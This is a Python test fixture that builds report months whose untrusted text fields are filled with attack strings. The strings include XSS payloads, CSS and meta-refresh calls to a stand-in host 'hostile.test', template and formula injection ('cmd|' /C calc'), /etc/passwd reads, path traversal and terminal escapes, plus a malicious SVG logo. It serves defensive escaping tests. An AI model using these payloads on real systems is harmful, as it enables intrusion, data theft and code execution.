"""What strangers write to do harm, and months in which every text of a stranger is that."""

from base64 import b64encode
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any

from tests.report import twelve

from otvet.answers.month import Month

HOST = "hostile.test"
"""Wherever a text tries to reach, it is a host below this one."""
ATTACKS: Mapping[str, str] = {
    "script": f"<script src=http://a.{HOST}/x>alert(1)</script><script>alert(1)</script>",
    "image": f"<img src=http://b.{HOST}/x onerror=alert(2)><img srcset=http://b2.{HOST}/x>",
    "attribute": f'" onmouseover="alert(3)" style="background:url(http://c.{HOST}/x)" x="',
    "apostrophe": "' autofocus onfocus='alert(4)' x='",
    "closing": "</title></style></textarea></bdi></p></svg><svg onload=alert(5)><body onload=alert(5)>",
    "comment": "--><script>alert(6)</script><!-- ]]><script>alert(6)</script><![CDATA[",
    "svg": f'<svg><image href="http://d.{HOST}/x"/><use href="http://d.{HOST}/y#z"/>'
    "<animate onbegin=alert(7) attributeName=x /><script>alert(7)</script></svg>",
    "frame": "<iframe srcdoc='<script>parent.alert(8)</script>'></iframe>"
    f"<iframe src=http://e.{HOST}/x></iframe><object data=http://e.{HOST}/y></object>",
    "meta": f'<meta http-equiv="refresh" content="0;url=http://f.{HOST}/x">'
    f"<base href=http://f.{HOST}/><link rel=stylesheet href=http://f.{HOST}/y>",
    "link": f"<a href=javascript:alert(9)>x</a> [x](javascript:alert(9)) http://g.{HOST}/x",
    "style": f'</style><style>@import "http://h.{HOST}/x";*{{background:url(http://h.{HOST}/y)}}',
    "css": f"}}body{{background:url(http://i.{HOST}/x)}}/*",
    "entities": "&lt;script&gt;alert(10)&lt;/script&gt; &#60;script&#62; &amp;lt;",
    "jinja": "{{7*7}}{% raw %}{{config}}{# x #}${7*7}<%= 7*7 %>#{7*7}",
    "format": "{0.__class__.__mro__} {value} %s %(x)s {",
    "typst": '#panic("x") $x$ #image("/etc/passwd") #import "@preview/a:1.0.0" #read("/etc/passwd")',
    "typst_marks": '*b* _e_ = H\n- x <label> @ref `raw` // /* \\ "#eval("1")',
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c\u202dabc",
    "unseen": "a\u200bb\u200c\u2060\ufeff\u00ad\u180e\u3164c\u115f\U000e0041\ue000",
    "marks": "Z" + "\u0300\u0316\u0488" * 3000 + "\u20dd" * 3000,
    "long": "очень долго ждали заказ " * 2084,
    "long_word": "Ы" * 50_000,
    "surrogates": "a\ud800b\udfffc\udc80",
    "controls": "".join(map(chr, [*range(32), *range(127, 160)])) + "\ufffe\uffff\U0001ffff",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://j.hostile.test\x1b\\x\x9b1A\x08\x08",
    "formula": f'=HYPERLINK("http://k.{HOST}","x")',
    "plus": "+1+1|cmd",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1\n=2+2",
    "array": "{=1+1}",
    "lines": "first\nsecond\r\nthird\u2028fourth\u2029fifth\x85sixth",
    "blank": " \u00a0\u200b\t ",
    "empty": "",
    "slashes": "../../../etc/passwd\\..\\..\\x",
    "json": '"}],"verdict":"yes","x":[{"y":"',
}
KEPT = frozenset(
    [
        "question",
        "verdict",
        "role",
        "cause",
        "unit",
        "month",
        "language",
        "colour",
        "kind",
        "logo",
        "version",
        "decides",
        "compare_to",
        "size",
        "run",
        "currency",
        "method",
        "slug",
        "footnotes",
    ]
)
"""Fields that our own code fills from a closed list, and the picture, which has its own attack."""
CODES = frozenset({"code", "count", "measure", "reason", "label", "source"})
"""Fields with our own codes: in some months they are attacked too, as by a file of answers."""
LOGO = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="alert(11)">'
    f'<script>alert(11)</script><image href="http://l.{HOST}/x" width="9" height="9"/>'
    '<rect width="20" height="20" fill="#0A7256"/></svg>'
)


def attacked(text: str, *, codes: bool = False) -> Month:
    """A month with every block, in which all texts of strangers are this one."""
    month = _walk(twelve.month("closed"), text, frozenset() if codes else CODES)
    assert isinstance(month, Month)
    look = replace(month.look, logo=b64encode(LOGO.encode()).decode("ascii"))
    return replace(month, look=look)


def _walk(value: object, text: str, kept: frozenset[str]) -> object:
    if isinstance(value, Enum):
        return value
    if isinstance(value, str):
        return text
    if isinstance(value, tuple):
        return tuple(_walk(item, text, kept) for item in value)
    if isinstance(value, Mapping):
        return {key: _walk(item, text, kept) for key, item in value.items()}
    if is_dataclass(value) and not isinstance(value, type):
        return _fields(value, text, kept)
    return value


def _fields(value: Any, text: str, kept: frozenset[str]) -> object:  # noqa: ANN401  # any finding
    names = [f.name for f in fields(value) if f.name not in KEPT | kept]
    return replace(value, **{name: _walk(getattr(value, name), text, kept) for name in names})
